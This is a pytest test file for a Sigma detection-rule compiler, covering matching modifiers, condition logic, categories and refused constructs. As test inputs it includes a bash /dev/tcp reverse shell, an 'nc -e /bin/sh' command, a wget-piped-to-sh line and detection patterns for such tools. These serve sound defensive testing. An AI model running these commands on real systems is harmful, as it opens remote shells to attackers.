"""The Sigma compiler: every supported modifier and condition form, and refusals with reasons."""

from __future__ import annotations

from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
import yaml
from sigma.collection import SigmaCollection
from sigma.exceptions import SigmaRuleLocation
from sigma.rule import SigmaRule

from canhgac.errors import RuleError
from collector.detection.base import CompiledRule
from collector.detection.compiler import compile_rule
from collector.detection.pipeline import canhgac_pipeline


def compile_detection(
    detection: Mapping[str, Any],
    logsource: Mapping[str, str] | None = None,
    source: Path | None = None,
) -> CompiledRule:
    doc = {
        "title": "test rule",
        "id": "5f0e9a52-3f4e-4a3c-9a51-4c1f7d2f3b11",
        "logsource": dict(logsource or {"product": "linux"}),
        "detection": dict(detection),
    }
    location = SigmaRuleLocation(source) if source is not None else None
    collection = SigmaCollection.from_yaml(yaml.safe_dump(doc), source=location)
    rule = collection.rules[0]
    assert isinstance(rule, SigmaRule)
    canhgac_pipeline().apply(rule)
    return compile_rule(rule)


def matches(detection: Mapping[str, Any], fields: Mapping[str, Any]) -> bool:
    return compile_detection(detection).predicate(fields)


EXE = "process.executable"


# --- plain equality and wildcards -------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "field", "expected"),
    [
        ("/usr/bin/curl", "/usr/bin/curl", True),
        ("/usr/bin/curl", "/USR/BIN/CURL", True),  # Sigma strings ignore case
        ("/usr/bin/curl", "/usr/bin/curl2", False),
        ("/usr/bin/cu*", "/usr/bin/curl", True),
        ("/usr/bin/cu*", "/usr/sbin/curl", False),
        ("*/curl", "/usr/bin/curl", True),
        ("*bin*", "/usr/bin/curl", True),
        ("*bin*", "/usr/local/curl", False),
        ("/usr/b?n/curl", "/usr/bin/curl", True),
        ("/usr/b?n/curl", "/usr/bn/curl", False),
        ("/usr/*/c?rl", "/usr/local/bin/CURL", True),
        ("a\\*b", "a*b", True),  # an escaped wildcard is a literal star
        ("a\\*b", "axxb", False),
        ("*", "anything", True),
        ("", "", True),
    ],
)
def test_string_equality(value: str, field: str, expected: bool) -> None:
    assert matches({"sel": {EXE: value}, "condition": "sel"}, {EXE: field}) is expected


def test_absent_field_never_equals() -> None:
    assert not matches({"sel": {EXE: "*"}, "condition": "sel"}, {})


def test_non_string_field_is_compared_by_its_text() -> None:
    assert matches(
        {"sel": {"destination.port": "22"}, "condition": "sel"}, {"destination.port": 22}
    )
    detection = {"sel": {"canhgac.auth.user_invalid": "TRUE"}, "condition": "sel"}
    assert matches(detection, {"canhgac.auth.user_invalid": True})


@pytest.mark.parametrize("values", [["/bin/sh", "/bin/bash"], ["/bin/sh", "/bin/bash", "/bin/zsh"]])
def test_value_list_is_or(values: list[str]) -> None:
    detection = {"sel": {EXE: values}, "condition": "sel"}
    assert matches(detection, {EXE: "/BIN/BASH"})
    assert not matches(detection, {EXE: "/bin/dash"})


def test_list_valued_field_matches_any_element() -> None:
    detection = {"sel": {"process.args": "--password*"}, "condition": "sel"}
    assert matches(detection, {"process.args": ["mysql", "--password=x"]})
    assert not matches(detection, {"process.args": ["mysql", "-u", "root"]})


# --- modifiers --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("modifier", "value", "field", "expected"),
    [
        ("contains", "wget", "sh -c 'WGET http://x | sh'", True),
        ("contains", "wget", "curl http://x", False),
        ("startswith", "/tmp/", "/TMP/x.sh", True),
        ("startswith", "/tmp/", "/var/tmp/x.sh", False),
        ("endswith", ".sh", "/tmp/x.SH", True),
        ("endswith", ".sh", "/tmp/x.shx", False),
        ("contains", "a*c", "xxabbbcxx", True),  # wildcards keep working inside contains
        ("cased", "Root", "Root", True),
        ("cased", "Root", "root", False),
        ("contains|cased", "Evil", "xEvilx", True),
        ("contains|cased", "Evil", "xevilx", False),
    ],
)
def test_string_modifiers(modifier: str, value: str, field: str, expected: bool) -> None:
    assert (
        matches({"sel": {f"{EXE}|{modifier}": value}, "condition": "sel"}, {EXE: field}) is expected
    )


def test_contains_all() -> None:
    detection = {"sel": {"process.command_line|contains|all": ["nc", "-e"]}, "condition": "sel"}
    assert matches(detection, {"process.command_line": "nc -e /bin/sh 1.2.3.4"})
    assert not matches(detection, {"process.command_line": "nc 1.2.3.4"})


@pytest.mark.parametrize(
    ("key", "value", "field", "expected"),
    [
        ("re", r"\s-e\s", "nc -e /bin/sh", True),  # unanchored search
        ("re", r"^nc\s", "ncat -e", False),
        ("re", r"Bash", "bash", False),  # regexes are case-sensitive by default
        ("re|i", r"Bash", "bash", True),
        ("re", r"^a.b$", "a\nb", False),
        ("re|s", r"^a.b$", "a\nb", True),
    ],
)
def test_regular_expressions(key: str, value: str, field: str, expected: bool) -> None:
    detection = {"sel": {f"process.command_line|{key}": value}, "condition": "sel"}
    assert matches(detection, {"process.command_line": field}) is expected


@pytest.mark.parametrize(
    ("network", "ip", "expected"),
    [
        ("10.0.0.0/8", "10.20.30.40", True),
        ("10.0.0.0/8", "11.0.0.1", False),
        ("2001:db8::/32", "2001:db8::1", True),
        ("2001:db8::/32", "10.0.0.1", False),
        ("10.0.0.0/8", "not-an-ip", False),
    ],
)
def test_cidr(network: str, ip: str, expected: bool) -> None:
    assert (
        matches({"sel": {"source.ip|cidr": network}, "condition": "sel"}, {"source.ip": ip})
        is expected
    )


def test_exists() -> None:
    present = {"sel": {"user.target.name|exists": True}, "condition": "sel"}
    absent = {"sel": {"user.target.name|exists": False}, "condition": "sel"}
    assert matches(present, {"user.target.name": "root"})
    assert not matches(present, {})
    assert matches(absent, {})
    assert not matches(absent, {"user.target.name": "root"})


def test_null_means_absent_or_empty() -> None:
    detection = {"sel": {"user.name": None}, "condition": "sel"}
    assert matches(detection, {})
    assert matches(detection, {"user.name": ""})
    assert not matches(detection, {"user.name": "root"})


@pytest.mark.parametrize(
    ("key", "bound", "value", "expected"),
    [
        ("process.pid", 1, 1, True),
        ("process.pid", 1, 2, False),
        ("process.pid", 1, "1", True),  # numeric text is a number
        ("process.pid", 1, "one", False),
        ("process.pid", 1, True, False),  # a bool is not the number 1
        ("process.pid|gt", 100, 101, True),
        ("process.pid|gt", 100, 100, False),
        ("process.pid|gte", 100, 100, True),
        ("process.pid|lt", 100, 99, True),
        ("process.pid|lt", 100, 100, False),
        ("process.pid|lte", 100, 100, True),
        ("process.pid|lte", 100, 101, False),
        ("network.bytes|gt", 1.5, 2, True),
        ("@timestamp|gt", 1_700_000_000_000_000_000, 1_700_000_000_000_000_001, True),
        ("process.pid|gt", 100, "abc", False),
    ],
)
def test_numbers(key: str, bound: float, value: Any, expected: bool) -> None:
    field = key.split("|")[0]
    assert matches({"sel": {key: bound}, "condition": "sel"}, {field: value}) is expected


def test_boolean_values() -> None:
    detection = {"sel": {"canhgac.auth.user_invalid": True}, "condition": "sel"}
    assert matches(detection, {"canhgac.auth.user_invalid": True})
    assert not matches(detection, {"canhgac.auth.user_invalid": False})
    assert not matches(detection, {})


def test_neq() -> None:
    detection = {"sel": {"user.name|neq": "root"}, "condition": "sel"}
    assert matches(detection, {"user.name": "alice"})
    assert not matches(detection, {"user.name": "ROOT"})


def test_fieldref() -> None:
    detection = {"sel": {"user.target.name|fieldref": "user.name"}, "condition": "sel"}
    assert matches(detection, {"user.name": "Bob", "user.target.name": "bob"})
    assert not matches(detection, {"user.name": "bob", "user.target.name": "root"})
    assert not matches(detection, {"user.target.name": "root"})


def test_base64offset_contains() -> None:
    detection = {
        "sel": {"process.command_line|base64offset|contains": "/bin/sh"},
        "condition": "sel",
    }
    assert matches(detection, {"process.command_line": "echo L2Jpbi9zaA== | base64 -d"})
    assert not matches(detection, {"process.command_line": "echo aGVsbG8= | base64 -d"})


# --- keywords ---------------------------------------------------------------------------------


def test_keywords_search_the_raw_record_and_the_command_line() -> None:
    detection = {"keywords": ["Accepted publickey", "nmap"], "condition": "keywords"}
    assert matches(detection, {"event.original": "sshd[1]: ACCEPTED PUBLICKEY for root"})
    assert matches(detection, {"process.command_line": "/usr/bin/nmap -sS 10.0.0.0/24"})
    assert not matches(detection, {"event.original": "sshd[1]: Failed password"})
    assert not matches(detection, {"user.name": "nmap"})


# --- condition forms --------------------------------------------------------------------------

FORMS = {
    "a": {"user.name": "root"},
    "b": {"process.name": "sshd"},
    "c": {"source.ip": "203.0.113.7"},
}


@pytest.mark.parametrize(
    ("condition", "fields", "expected"),
    [
        ("a and b", {"user.name": "root", "process.name": "sshd"}, True),
        ("a and b", {"user.name": "root"}, False),
        ("a or b", {"process.name": "sshd"}, True),
        ("a or b", {"source.ip": "203.0.113.7"}, False),
        ("a and not b", {"user.name": "root"}, True),
        ("a and not b", {"user.name": "root", "process.name": "sshd"}, False),
        ("not a", {}, True),
        ("(a or b) and c", {"process.name": "sshd", "source.ip": "203.0.113.7"}, True),
        ("(a or b) and c", {"process.name": "sshd"}, False),
        ("a or (b and c)", {"process.name": "sshd"}, False),
        ("1 of them", {"source.ip": "203.0.113.7"}, True),
        ("all of them", {"user.name": "root", "process.name": "sshd"}, False),
        (
            "all of them",
            {"user.name": "root", "process.name": "sshd", "source.ip": "203.0.113.7"},
            True,
        ),
    ],
)
def test_condition_forms(condition: str, fields: dict[str, str], expected: bool) -> None:
    assert matches({**FORMS, "condition": condition}, fields) is expected


def test_selectors_with_wildcards() -> None:
    detection = {
        "sel_shell": {EXE: "/bin/sh"},
        "sel_net": {"process.command_line|contains": "/dev/tcp/"},
        "filter": {"user.name": "backup"},
        "condition": "1 of sel_* and not filter",
    }
    assert matches(detection, {EXE: "/bin/sh"})
    assert matches(detection, {"process.command_line": "bash -i >& /dev/tcp/1.2.3.4/4444"})
    assert not matches(detection, {EXE: "/bin/sh", "user.name": "backup"})
    assert not matches(detection, {EXE: "/bin/bash"})
    every = {**detection, "condition": "all of sel_*"}
    assert not matches(every, {EXE: "/bin/sh"})
    assert matches(every, {EXE: "/bin/sh", "process.command_line": "x /dev/tcp/ y"})


def test_list_of_maps_is_or_and_each_map_is_and() -> None:
    detection = {
        "sel": [{"user.name": "root", "process.name": "sshd"}, {"user.name": "admin"}],
        "condition": "sel",
    }
    assert matches(detection, {"user.name": "root", "process.name": "sshd"})
    assert matches(detection, {"user.name": "admin"})
    assert not matches(detection, {"user.name": "root"})


# --- category index ---------------------------------------------------------------------------


def test_categories_from_logsource() -> None:
    compiled = compile_detection(
        {"sel": {"user.name": "root"}, "condition": "sel"}, {"product": "linux", "service": "sshd"}
    )
    assert compiled.categories == frozenset({"authentication"})


def test_categories_from_the_rule_itself() -> None:
    det = {"sel": {"event.category": ["Process", "file"]}, "condition": "sel"}
    assert compile_detection(det).categories == frozenset({"process", "file"})


def test_rule_without_category_or_with_or_outside_it_is_unconstrained() -> None:
    assert compile_detection({"sel": {"user.name": "root"}, "condition": "sel"}).categories is None
    either = {
        "a": {"event.category": "process"},
        "b": {"user.name": "root"},
        "condition": "a or b",
    }
    assert compile_detection(either).categories is None


# --- refusals ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("detection", "reason"),
    [
        ({"sel": {"Hashes": "x"}, "condition": "sel"}, "unknown field 'Hashes'"),
        ({"sel": {"process.name|utf16": "x"}, "condition": "sel"}, "unsupported modifier 'utf16'"),
        ({"sel": {"process.name|wide": "x"}, "condition": "sel"}, "unsupported modifier"),
        ({"sel": {"@timestamp|minute": 5}, "condition": "sel"}, "unsupported modifier 'minute'"),
        (
            {"sel": {"process.name|expand": "%admins%"}, "condition": "sel"},
            "unsupported modifier 'expand'",
        ),
        (
            {"sel": {"source.ip|fieldref": "NoSuchField"}, "condition": "sel"},
            "unknown field 'NoSuchField'",
        ),
    ],
)
def test_unsupported_constructs_are_refused_with_the_reason(
    detection: dict[str, Any], reason: str
) -> None:
    with pytest.raises(RuleError, match=reason):
        compile_detection(detection)


def test_refusal_names_the_rule_file(tmp_path: Path) -> None:
    path = tmp_path / "bad.yml"
    with pytest.raises(RuleError) as info:
        compile_detection({"sel": {"Nope": 1}, "condition": "sel"}, source=path)
    assert info.value.location == str(path)
    assert str(path) in str(info.value)


# --- lists of numbers and the fields a rule reads ---------------------------------------------

PORTS = {"destination.port": [4444, 1337, 31337, 6667]}


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (4444, True),
        ("31337", True),  # a numeric string compares as its number, as with one value
        (4444.0, True),
        (22, False),
        ("4444x", False),
        (True, False),  # a bool is not a number
        ([22, 6667], True),  # a list matches when one element does
        ([22, 80], False),
    ],
)
def test_a_list_of_numbers_is_one_set_lookup_with_number_equality(
    value: object, expected: bool
) -> None:
    assert matches({"sel": PORTS, "condition": "sel"}, {"destination.port": value}) is expected
    single = [
        matches(
            {"sel": {"destination.port": port}, "condition": "sel"}, {"destination.port": value}
        )
        for port in PORTS["destination.port"]
    ]
    assert any(single) is expected  # the same answer as one matcher per number


def test_a_missing_field_never_matches_a_list_of_numbers() -> None:
    assert not matches({"sel": PORTS, "condition": "sel"}, {})


def test_compiled_rules_list_every_field_their_predicate_reads() -> None:
    compiled = compile_detection(
        {
            "sel": {"Image|endswith": "/nc", "CommandLine|re": "-e"},
            "keep": {"DestinationPort": [1, 2, 3]},
            "filter": {"ParentImage|startswith": "/usr/lib/", "User": None},
            "condition": "sel and keep and not filter",
        }
    )
    assert compiled.fields == {
        "process.executable",
        "process.command_line",
        "destination.port",
        "process.parent.executable",
        "user.name",
    }


def test_a_rule_of_one_category_also_compiles_without_its_category_tests() -> None:
    compiled = compile_detection(
        {
            "sel": {"event.category": "process", "Image|endswith": "/nc"},
            "filter": {"event.category": "Process", "User": "backup"},
            "condition": "sel and not filter",
        }
    )
    assert compiled.categories == frozenset({"process"})
    assert compiled.in_category is not None
    assert compiled.in_category_fields == frozenset({"process.executable", "user.name"})
    nc = {"process.executable": "/bin/nc"}
    # For events of the category (which the engine guarantees) both predicates agree ...
    for extra in ({}, {"user.name": "backup"}):
        event = {**nc, **extra, "event.category": "PROCESS"}
        assert compiled.in_category(event) == compiled.predicate(event)
    assert compiled.in_category(nc)
    assert not compiled.in_category({**nc, "user.name": "backup"})
    # ... while the plain predicate still checks the category.
    assert not compiled.predicate({**nc, "event.category": "file"})
    assert not compiled.predicate(nc)


def test_rules_of_several_categories_or_none_have_no_specialised_predicate() -> None:
    either = compile_detection({"a": {"event.category": ["process", "file"]}, "condition": "a"})
    assert either.in_category is None
    free = compile_detection({"a": {"Image|endswith": "/nc"}, "condition": "a"})
    assert free.categories is None
    assert free.in_category is None


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("/etc/cron.d/job", True),
        ("/ETC/CRON.DAILY/x", True),  # case-insensitive, as one value at a time
        ("/var/spool/cron/root", True),
        ("/etc/cron", False),
        (["/tmp/a", "/etc/cron.d/b"], True),
        ("/tmp/x.sh", True),  # the endswith list beside the startswith list
        ("/tmp/x.SH", True),
        ("/tmp/x.shx", False),
        (42, False),
    ],
)
def test_lists_of_prefixes_and_suffixes_match_as_their_values_one_by_one(
    value: object, expected: bool
) -> None:
    prefixes = ["/etc/cron.d/", "/etc/cron.daily/", "/var/spool/cron/"]
    detection = {
        "a": {"file.path|startswith": prefixes},
        "b": {"file.path|endswith": [".sh", ".py"]},
        "c": {"file.path": "/etc/crontab"},
        "condition": "a or b or c",
    }
    assert matches(detection, {"file.path": value}) is expected
    one_by_one = [
        *({"x": {"file.path|startswith": p}, "condition": "x"} for p in prefixes),
        {"x": {"file.path|endswith": ".sh"}, "condition": "x"},
        {"x": {"file.path|endswith": ".py"}, "condition": "x"},
        {"x": {"file.path": "/etc/crontab"}, "condition": "x"},
    ]
    assert any(matches(d, {"file.path": value}) for d in one_by_one) is expected
